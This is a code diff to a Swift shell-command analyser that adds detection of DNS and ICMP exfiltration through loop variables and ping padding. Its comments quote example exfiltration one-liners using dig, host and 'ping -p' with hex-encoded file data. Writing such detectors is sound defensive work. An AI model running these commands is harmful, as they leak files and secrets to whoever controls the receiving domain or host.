@@ -99,6 +99,7 @@ extension ShellReader {
     /// name servers, however the network filters other traffic. DNS exfiltration; high when the
     /// output is encoded first, as exfiltration tools do to fit any data into a name.
     mutating func checkDataInHostName(_ words: [Word]) {
+        checkCarriedInVariables(words)
         // Cheap first: most commands hold no command substitution at all.
         guard words.dropFirst().contains(where: { w in w.parts.contains { p in
             if case .commandSubstitution = p { return true }
@@ -119,6 +120,38 @@ extension ShellReader {
                 add(encoded ? .high : .medium, techniques: ["T1048.003"],
                     "Builds the host name `\(program)` looks up from the output of a command\(encoded ? ", encoded first," : ""): looking it up hands that output to whoever runs the domain's name servers (data carried out through DNS).",
                     word.range)
+                return
+            }
+        }
+    }
+
+    /// Data carried out a piece at a time through a loop variable: `for c in $(xxd -p F); do dig
+    /// $c.example.org; done`, `xxd -p F | while read l; do host $l.example.org; done`, `ping -p
+    /// $(xxd -p -l 16 F) HOST`. A label made of encoded data or credentials in a host name looked
+    /// up, or a ping's padding pattern, is exfiltration (T1048.003, TA0010).
+    mutating func checkCarriedInVariables(_ words: [Word]) {
+        guard let start = words.prefix(3).firstIndex(where: { w in
+            let n = Catalogue.windowsKey(w.literalValue ?? "")
+            return NetworkProbes.resolvers.contains(n) || n == "ping" || n == "ping6"
+        }), let program = words[start].literalValue else { return }
+        func carries(_ p: WordPart) -> Bool {
+            switch p {
+            case .parameter(let e): return variables[e.name].map { !$0.taint.intersection([.encoded, .secret]).isEmpty } ?? false
+            case .commandSubstitution(let s, _, _): return Self.encodes(s)
+            default: return false
+            }
+        }
+        let isPing = Catalogue.windowsKey(program).hasPrefix("ping")
+        for (k, word) in words.enumerated().dropFirst(start + 1) {
+            let parts = word.parts.flatMap(Self.unquoted)
+            if isPing {
+                guard k > 0, words[k - 1].literalValue == "-p", parts.contains(where: carries) else { continue }
+                report.addLeading(.high, "T1048.003", "Puts encoded data into the padding of the `\(program)` packets it sends (`-p`): whoever receives them reads the data (data carried out through ICMP).", at(word.range))
+                return
+            }
+            for (i, part) in parts.enumerated() where i + 1 < parts.count && carries(part) {
+                guard case .parameter = part, let after = parts[i + 1].literalValue, after.hasPrefix("."), after.count > 2 else { continue }
+                report.addLeading(.high, "T1048.003", "Builds the host name `\(program)` looks up from encoded data\(report.secrets.isEmpty ? "" : " read from \(report.secrets.last!)"), a piece at a time: looking it up hands the data to whoever runs the domain's name servers (data carried out through DNS).", at(word.range))
                 return
             }
         }
